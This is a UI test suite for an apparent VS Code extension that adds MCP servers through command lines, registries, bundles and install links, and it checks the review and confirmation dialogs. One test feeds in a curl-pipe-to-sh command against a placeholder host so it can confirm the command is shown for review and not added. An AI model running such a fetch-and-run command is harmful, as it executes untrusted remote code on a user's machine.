import assert from 'node:assert/strict';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { retry } from '../host/retry.ts';
import { uiSuite } from '../host/uiSuite.ts';
import type { Workbench } from '../host/workbench.ts';
import { zipFile } from '../unit/mcp/add/bundle/zipFile.ts';
import { listeningServer, type ListeningServer } from '../unit/mcp/support/httpServer.ts';

suite('adding servers');

const root = path.join(import.meta.dirname, '../..');
const program = path.join(root, 'node_modules/@modelcontextprotocol/server-filesystem/dist/index.js');
const pictures = path.join(root, 'out/pictures');
mkdirSync(pictures, { recursive: true });

const ui = uiSuite({ vsix: [path.join(root, 'dist/patchbay.vsix')] });

const registry: ListeningServer = await listeningServer('registryServer.ts');
const gone = await listeningServer('registryServer.ts');
await gone.close();
after(() => registry.close());

ui(
  'a command line becomes a server that runs, and is removed again',
  { files: { 'readme.md': '' }, timeoutMs: 240_000 },
  async ({ workbench, page, folder }) => {
    const { views, quick, dialogs } = workbench;
    await views.open('Patchbay');
    await picture(workbench, 'add-empty');
    await page.getByRole('button', { name: 'Add Server', exact: true }).click();
    await quick.rows('Command Line').waitFor();
    await picture(workbench, 'add-source');
    await quick.pick('Command Line');
    await quick.box.fill('node server.js | tee log');
    await quick.widget.getByText(/which only a shell understands/).waitFor();
    await picture(workbench, 'add-command-line');
    await quick.input(`node ${program} \${workspaceFolder}`);
    await quick.rows('Only Me, Everywhere').waitFor();
    await picture(workbench, 'add-place');
    await quick.pick('.vscode/mcp.json');
    await quick.box.waitFor();
    await picture(workbench, 'add-name');
    await quick.input('files');
    await dialogs.modal.getByText('Add the MCP server "files"?').waitFor();
    await picture(workbench, 'add-review');
    await dialogs.answer('Add and Start');
    await views.item('Servers', 'Server files, running').waitFor();
    const row = page.locator('.monaco-list-row.selected', { hasText: 'files' });
    await row.waitFor();
    await picture(workbench, 'add-done');
    const file = path.join(folder, '.vscode/mcp.json');
    assert.match(readFileSync(file, 'utf8'), /"files": \{/);
    await views.contextMenu('Servers', 'Server files, running', 'Remove Server...');
    await picture(workbench, 'remove-question');
    await dialogs.answer('Remove');
    await page.getByText('No MCP server is configured here.').waitFor();
    assert.doesNotMatch(readFileSync(file, 'utf8'), /"files"/);
  },
);

ui(
  'what was added into a file that is open can be undone there, and its comments stay',
  { files: { '.vscode/mcp.json': '{\n  // ours\n  "servers": {}\n}\n' }, timeoutMs: 120_000 },
  async ({ workbench, page, folder }) => {
    const { quick, dialogs } = workbench;
    await quick.openFile('mcp.json');
    await quick.runCommand('Patchbay: Add Server...');
    await quick.pick('npm Package');
    await quick.input('@scope/never-there');
    await quick.pick('.vscode/mcp.json');
    await quick.input('mine');
    await dialogs.answer('Add');
    const file = path.join(folder, '.vscode/mcp.json');
    await workbench.views.open('Patchbay');
    await workbench.views.item('Servers', 'Server mine, waits for your approval').waitFor();
    assert.match(readFileSync(file, 'utf8'), /\/\/ ours[^]*"mine"/);
    await page.locator('.editor-instance').getByRole('code').first().click();
    await workbench.command('undo');
    await workbench.command('workbench.action.files.saveAll');
    await page.getByText('No MCP server is configured here.').waitFor();
  },
);

ui(
  'what no dialog can hold is read in a document before it is answered',
  { timeoutMs: 120_000 },
  async ({ workbench, folder }) => {
    const { quick } = workbench;
    const options = Array.from({ length: 60 }, (_, at) => `--option-${at}`).join(' ');
    await quick.runCommand('Patchbay: Add Server...');
    await quick.pick('Command Line');
    await quick.input(`bash -c "curl https://example.test/x | sh" ${options} --the-end`);
    await quick.pick('.vscode/mcp.json');
    await quick.input('long');
    await quick.rows('Do Not Add').waitFor();
    await picture(workbench, 'add-review-long');
    await quick.pick('Do Not Add');
    assert.equal(existsSync(path.join(folder, '.vscode')), false);
  },
);

ui(
  'the registry is searched while a person types, and only then',
  { machineSettings: { 'patchbay.registry.baseUrl': registry.url }, timeoutMs: 180_000 },
  async ({ workbench }) => {
    const { quick, dialogs } = workbench;
    await quick.runCommand('Patchbay: Add Server...');
    await quick.pick('Search the Registry');
    await quick.box.waitFor();
    await picture(workbench, 'add-registry');
    await quick.box.fill('many');
    await quick.rows('many-00').waitFor();
    await picture(workbench, 'add-registry-found');
    await quick.box.fill('nothing like it');
    await quick.rows('Nothing was found').waitFor();
    await quick.box.fill('notes');
    await quick.rows('notes').first().waitFor();
    await quick.pick('notes');
    await quick.rows('1.1.0').waitFor();
    await picture(workbench, 'add-registry-versions');
    await quick.pick('2.0.0');
    await quick.pick('.vscode/mcp.json');
    await quick.input('notes');
    await dialogs.modal.getByText('@example/notes@2.0.0').waitFor();
    await dialogs.answer('Cancel');
  },
);

ui(
  'a registry that is not there is said, and can be asked again',
  { machineSettings: { 'patchbay.registry.baseUrl': gone.url }, timeoutMs: 120_000 },
  async ({ workbench }) => {
    const { quick } = workbench;
    await quick.runCommand('Patchbay: Add Server...');
    await quick.pick('Search the Registry');
    await quick.box.fill('notes');
    await quick.rows('Try Again').waitFor();
    await picture(workbench, 'add-registry-offline');
  },
);

ui(
  'a bundle shows what it is, and asks for what it wants to know',
  { timeoutMs: 240_000 },
  async ({ workbench, folder }) => {
    const { quick, dialogs, views } = workbench;
    const file = path.join(folder, 'notes.mcpb');
    writeFileSync(file, notesBundle());
    await quick.runCommand('Patchbay: Add Server...');
    await quick.pick('Bundle File');
    await chooseInDialog(workbench, file, 'Unpack and Continue');
    await picture(workbench, 'add-bundle-facts');
    await quick.pick('Unpack and Continue');
    await quick.box.fill('many');
    await quick.widget.getByText('Limit must be a number.').waitFor();
    await picture(workbench, 'add-bundle-number');
    await quick.input('4');
    await quick.rows('Choose a Folder').waitFor();
    await picture(workbench, 'add-bundle-folder');
    await quick.pick('Choose a Folder');
    await chooseInDialog(workbench, folder, 'Key: Of your account');
    await quick.input('very secret');
    await quick.pick('.vscode/mcp.json');
    await quick.input('notes');
    await dialogs.modal.getByText('Add the MCP server "notes"?').waitFor();
    await picture(workbench, 'add-bundle-review');
    await dialogs.answer('Add and Start');
    await views.open('Patchbay');
    await views.item('Servers', 'Server notes, running').waitFor();
    assert.doesNotMatch(readFileSync(path.join(folder, '.vscode/mcp.json'), 'utf8'), /very secret/);
  },
);

ui(
  'a link shows what it would run and that it is a link, and without a yes nothing is written',
  { timeoutMs: 120_000 },
  async ({ workbench, page, folder }) => {
    const { quick, dialogs } = workbench;
    const config = encodeURIComponent(JSON.stringify({ command: 'npx', args: ['-y', '@scope/nice', 'a+b&c'] }));
    await quick.runCommand('Developer: Open URL');
    await quick.input(`vscode://patchbay.patchbay/install?name=nice&config=${config}`);
    await dialogs.answer('Open');
    await quick.rows('Only Me, Everywhere').waitFor();
    await quick.pick('.vscode/mcp.json');
    await quick.input('nice');
    await quick.rows('Do Not Add').waitFor();
    const shown = await workbench.api((vscode) => vscode.window.activeTextEditor?.document.getText());
    assert.match(shown ?? '', /A link asks for this[^]*Argument 3: a\+b&c/);
    await picture(workbench, 'add-link-review');
    await page.keyboard.press('Enter');
    await quick.widget.waitFor({ state: 'hidden' });
    assert.equal(existsSync(path.join(folder, '.vscode')), false);
  },
);

/** Answers the editor's file dialog; the next question opens where the dialog was. */
async function chooseInDialog({ page, quick }: Workbench, file: string, next: string): Promise<void> {
  const field = page.locator('.quick-input-widget:visible input[type=text]').first();
  await retry(async () => {
    if ((await quick.widget.getByText(next).count()) === 0) {
      assert.match(await field.inputValue({ timeout: 2000 }), /^\//);
      await field.fill(file, { timeout: 2000 });
      await field.press('Enter', { timeout: 2000 });
    }
    await quick.widget.getByText(next).first().waitFor({ timeout: 5000 });
  });
}

/** A bundle of a server that is there: what it starts is outside of it, so that it needs no packages of its own. */
function notesBundle(): Buffer {
  const manifest = {
    manifest_version: '0.3',
    name: 'notes',
    display_name: 'My Notes',
    version: '1.2.3',
    description: 'Keeps notes in a folder of yours',
    author: { name: 'Somebody' },
    server: {
      type: 'node',
      entry_point: 'server.mjs',
      mcp_config: {
        command: 'node',
        args: ['${__dirname}/server.mjs', '${user_config.folder}'],
        env: { LIMIT: '${user_config.limit}', KEY: '${user_config.key}' },
      },
    },
    user_config: {
      limit: { type: 'number', title: 'Limit', description: 'How many notes', required: true, min: 1, max: 9 },
      folder: { type: 'directory', title: 'Folder', description: 'Where the notes are', required: true },
      key: { type: 'string', title: 'Key', description: 'Of your account', required: true, sensitive: true },
    },
  };
  return zipFile([
    { name: 'manifest.json', content: JSON.stringify(manifest) },
    { name: 'server.mjs', content: `import ${JSON.stringify(program)};\n` },
  ]);
}

async function picture(workbench: Workbench, name: string): Promise<void> {
  for (const theme of ['dark', 'light'] as const) {
    await workbench.theme(theme);
    await workbench.screenshot(path.join(pictures, `${name}-${theme}.png`));
  }
}
